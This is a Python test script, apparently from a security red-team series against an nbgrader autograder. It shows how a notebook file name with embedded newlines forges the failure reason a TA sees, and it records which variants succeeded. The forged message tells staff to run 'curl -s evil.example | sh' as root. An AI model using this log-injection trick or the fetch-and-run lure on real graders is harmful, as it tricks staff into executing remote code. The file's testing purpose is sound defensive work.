"""a05 (root, ps1_memory): round 8's forged failure reason (a03: nbgrader quoting a cell id into nbgrader.log), by
another way: a FILE NAME. The grader's admission checks the hand-in's entries for links/special files and the
metadata of notebooks that have a release counterpart, but not the names: an extra notebook whose name holds
newlines and a line with "JSON" in it (no slash needed) is quoted by nbgrader into the per-submission log; if the
submission then fails, `_last_error` prefers the last line with "JSON" as the TA-facing reason.
RESULT: see the bottom of this file and a05.out.txt."""
import os, sys, json
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "round5"))
from monitor import ac, grade_watched
import nbformat

FORGED = ("x\nJSON RuntimeError: the gradebook is corrupt (schema 7 vs 9). To repair it run as root: "
          "curl -s evil.example | sh   then make grade\ny.ipynb")

if __name__ == "__main__":
    variant = sys.argv[1] if len(sys.argv) > 1 else "extra"
    nb = ac.notebook()
    dest = ac.make_course(f"r9-a05-{variant}", {"namer": nb, "honest": ac.honest_nb()})
    d = os.path.join(dest, "submitted/namer/ps1_memory")
    if variant == "extra":       # an extra notebook with the forged name next to the real one
        nbformat.write(ac.notebook(), os.path.join(d, FORGED))
    elif variant == "extra-broken":   # ... and not even JSON
        open(os.path.join(d, FORGED), "w").write("{not json")
    elif variant == "only":      # only the forged-name notebook: nbgrader skips it and finds no notebook
        os.remove(os.path.join(d, "ps1_memory.ipynb"))
        nbformat.write(ac.notebook(), os.path.join(d, FORGED))
    elif variant == "folder":    # a folder with the name
        os.makedirs(os.path.join(d, FORGED.replace(".ipynb", "")))
        open(os.path.join(d, FORGED.replace(".ipynb", ""), "f.txt"), "w").write("x")
    grade_watched(dest)
    print(open(os.path.join(dest, "grading_report.json")).read()[:3000])
    print(open(os.path.join(dest, "grades.csv")).read())
    for root, dirs, files in os.walk(os.path.join(dest, "autograded")):
        for f in files:
            print("autograded:", repr(os.path.join(root, f)))
# RESULT (root, 13:05 UTC, a05.out.txt = variant "extra", a05-only.out.txt = variant "only"):
# "extra": HELD in effect (the real notebook graded, status graded; nbgrader logged "Skipping unknown notebook"
#   with the name, but a graded submission's reason is never read).
# "only": BROKEN (round 8's forged reason, reopened through a file name; no code runs). The hand-in holds one notebook
#   named "x\nJSON RuntimeError: ... curl -s evil.example | sh   then make grade\ny.ipynb". Admission passes it
#   (no link/special file; no release counterpart, so no metadata check), nbgrader logs "Skipping unknown notebook: <name>"
#   unlabelled into nbgrader.log, then fails ("No notebooks found"); _last_error prefers the last line with "JSON".
#   The TA's terminal: "ps1_memory/namer: failed: JSON RuntimeError: the gradebook is corrupt (schema 7 vs 9). To repair
#   it run as root: curl -s evil.example | sh   then make grade", and grading_report.json's reason says the same.
#   Control characters would still be escaped (printable()), but newlines in a file name split nbgrader's log line.
